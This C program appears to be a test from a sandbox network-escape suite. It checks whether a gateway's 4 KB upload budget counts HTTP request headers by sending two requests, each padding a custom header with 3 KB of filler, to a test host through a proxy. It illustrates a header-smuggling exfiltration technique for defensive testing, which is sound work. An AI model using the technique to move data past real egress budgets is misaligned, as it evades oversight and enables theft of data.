/* ATTACK: smuggle data out in request heads past a byte budget (network.budget.bytes_up: 4K), which counted bodies only | LAYER: gateway budgets: request heads count as bytes up | REF: - */
#include "netattack.h"

int main(void)
{
	/* Each request carries 3 KB in a header; the second one is over the
	 * sandbox's 4 KB upload budget. */
	static char big[3001];
	memset(big, 'x', 3000);
	char hp[64];
	snprintf(hp, sizeof(hp), "up.test:%u", na_up_port());
	int served = 0;
	for (int i = 0; i < 2; i++) {
		int fd = na_proxy_connect();
		if (fd < 0)
			return na_blocked("no proxy port: the sandbox has no egress at all");
		static char req[4096];
		int n = snprintf(req, sizeof(req), "GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-Data: %s\r\nConnection: close\r\n\r\n", hp,
				 hp, big);
		na_send(fd, req, (size_t)n);
		static char resp[4096];
		size_t len = na_read_all(fd, resp, sizeof(resp));
		close(fd);
		if (na_status(resp) == 200) {
			served++;
			continue;
		}
		char what[160];
		snprintf(what, sizeof(what), "request %d with a 3 KB header", i + 1);
		return na_judge_http(what, resp, len);
	}
	return na_escaped("two 3 KB request heads went out past a 4 KB upload budget");
}
